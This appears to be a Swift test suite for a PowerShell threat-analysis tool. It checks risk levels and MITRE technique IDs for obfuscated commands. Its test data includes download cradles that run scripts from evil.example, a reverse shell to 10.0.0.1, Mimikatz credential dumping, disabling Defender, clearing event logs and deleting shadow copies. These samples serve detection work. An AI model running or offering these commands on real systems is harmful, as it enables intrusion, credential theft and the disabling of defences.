import Foundation
import Testing
@testable import ShellAnalysis

@Suite struct PowerShellReaderTests {
    struct Case: CustomStringConvertible, Sendable {
        var evasion: String
        var line: String
        var minRisk: RiskLevel
        var technique: String?
        var mentions: String?
        var description: String { evasion }
    }

    static func encode(_ s: String) -> String {
        Data(s.utf16.flatMap { [UInt8($0 & 0xff), UInt8($0 >> 8)] }).base64EncodedString()
    }

    static let cases: [Case] = [
        Case(evasion: "encoded command", line: "powershell -enc " + encode("net user"), minRisk: .high, technique: "T1027", mentions: "net user"),
        Case(evasion: "encoded command with a prefix and slash", line: "powershell /EncodedC " + encode("whoami"), minRisk: .high, technique: "T1027", mentions: "whoami"),
        Case(evasion: "hidden window and policy bypass", line: "powershell -w hidden -nop -ep bypass -c Get-Process", minRisk: .high, technique: "T1564.003", mentions: nil),
        Case(evasion: "download cradle", line: "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')", minRisk: .critical, technique: "T1105", mentions: "evil.example"),
        Case(evasion: "download cradle piped to iex", line: "iwr http://evil.example/x | iex", minRisk: .critical, technique: "T1105", mentions: nil),
        Case(evasion: "string-built iex", line: "&('I'+'EX') 'Get-Process'", minRisk: .high, technique: "T1027", mentions: nil),
        Case(evasion: "format-operator names", line: #"& ("{1}{0}" -f 'EX','I') (New-Object Net.WebClient).DownloadString('http://x.example/')"#, minRisk: .critical, technique: "T1105", mentions: nil),
        Case(evasion: "dot call with concatenation", line: ".( 'ie'+'x') 'whoami'", minRisk: .high, technique: "T1027", mentions: "whoami"),
        Case(evasion: "backtick obfuscation", line: "i`e`x 'whoami'", minRisk: .high, technique: "T1027", mentions: "whoami"),
        Case(evasion: "case mixing", line: "InVoKe-ExPrEsSiOn 'whoami'", minRisk: .high, technique: "T1027", mentions: nil),
        Case(evasion: "char codes joined", line: "& ([char[]](105,101,120) -join '') 'whoami'", minRisk: .high, technique: "T1027", mentions: "whoami"),
        Case(evasion: "decoded base64 run by iex", line: "iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('" + encode("net user") + "')))", minRisk: .critical, technique: "T1140", mentions: "net user"),
        Case(evasion: "reversed string", line: "$s='resu ten'; $a=$s.ToCharArray(); [array]::Reverse($a); iex ($a -join '')", minRisk: .high, technique: "T1027", mentions: "net user"),
        Case(evasion: "replace method hides the name", line: "iex ('nXt usXr'.Replace('X','e'))", minRisk: .high, technique: "T1027", mentions: "net user"),
        Case(evasion: "ComSpec slicing", line: "&$env:ComSpec /c whoami", minRisk: .none, technique: nil, mentions: "whoami"),
        Case(evasion: "alias made up in the same input", line: "sal x iex; x 'whoami'", minRisk: .high, technique: "T1027", mentions: "whoami"),
        Case(evasion: "registry Run key", line: #"Set-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name u -Value C:\x.exe"#, minRisk: .high, technique: "T1547.001", mentions: nil),
        Case(evasion: "Defender switched off", line: "Set-MpPreference -DisableRealtimeMonitoring $true", minRisk: .high, technique: "T1562.001", mentions: nil),
        Case(evasion: "Defender exclusion", line: #"Add-MpPreference -ExclusionPath C:\temp"#, minRisk: .high, technique: "T1562.001", mentions: nil),
        Case(evasion: "event log cleared", line: "Clear-EventLog -LogName Security", minRisk: .high, technique: "T1070.001", mentions: nil),
        Case(evasion: "shadow copies deleted through WMI", line: "Get-WmiObject Win32_Shadowcopy | ForEach-Object { $_.Delete() }", minRisk: .critical, technique: "T1490", mentions: nil),
        Case(evasion: "Mimikatz", line: "Invoke-Mimikatz -Command 'sekurlsa::logonpasswords'", minRisk: .critical, technique: "T1003.001", mentions: nil),
        Case(evasion: "reverse shell", line: "$c=New-Object Net.Sockets.TCPClient('10.0.0.1',443);$s=$c.GetStream();while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i);iex $d}", minRisk: .critical, technique: "T1095", mentions: nil),
        Case(evasion: "nested cmd /c powershell -enc", line: "cmd /c powershell -e " + encode("iex 'net user'"), minRisk: .high, technique: "T1027", mentions: "net user"),
        Case(evasion: "scriptblock create", line: "[ScriptBlock]::Create('who'+'ami').Invoke()", minRisk: .high, technique: "T1027", mentions: "whoami"),
        Case(evasion: "here-string fed to iex", line: "iex @'\nwhoami\n'@", minRisk: .medium, technique: "T1059.001", mentions: "whoami"),
    ]

    @Test(arguments: cases)
    func evasion(_ c: Case) {
        let (status, report) = WindowsFixture.powershell(c.line)
        #expect(status == .complete)
        #expect(report.risk >= c.minRisk, "\(report.findings)")
        if let t = c.technique { #expect(report.findings.contains { $0.technique == t }, "\(report.findings)") }
        if let m = c.mentions { #expect(WindowsFixture.mentions(report, m), "\(report.explanation)") }
        let end = c.line.utf8.count
        #expect(report.findings.allSatisfy { $0.range.start >= 0 && $0.range.end <= end })
    }

    @Test(arguments: ["Get-Process", #"Get-ChildItem C:\Temp"#, "gci | Where-Object { $_.Length -gt 10 }", "ipconfig /all", "dir"])
    func benignStaysLow(_ line: String) {
        let (status, report) = WindowsFixture.powershell(line)
        #expect(status == .complete)
        #expect(report.risk <= .low, "\(report.findings)")
    }

    @Test(arguments: ["Write-Output 'unfinished", "Get-Process | ForEach-Object { $_", "\"open"])
    func unreadableIsASyntaxError(_ line: String) {
        let (status, report) = WindowsFixture.powershell(line)
        guard case .syntaxError = status else { Issue.record("expected a syntax error, got \(status)"); return }
        #expect(report.risk >= .high)
    }

    @Test func unknownCmdletIsMedium() {
        let (_, report) = WindowsFixture.powershell("Frobnicate-Thing -Now")
        #expect(report.risk == .medium)
        #expect(WindowsFixture.mentions(report, "does not know"))
    }

    @Test func nestingStopsAtEightLevels() {
        var line = "whoami"
        for _ in 0..<10 { line = "powershell -enc " + Self.encode(line) }
        let (status, report) = WindowsFixture.powershell(line)
        guard case .tooComplex = status else { Issue.record("expected tooComplex, got \(status)"); return }
        #expect(report.risk >= .high)
    }

    @Test func decodedFindingsPointAtTheCarrier() {
        let payload = Self.encode("Frobnicate-Thing")
        let line = "powershell -enc " + payload
        let (_, report) = WindowsFixture.powershell(line)
        let f = report.findings.first { $0.reason.contains("Frobnicate") }
        #expect(f?.range == SourceRange(11, line.utf8.count))
    }
}
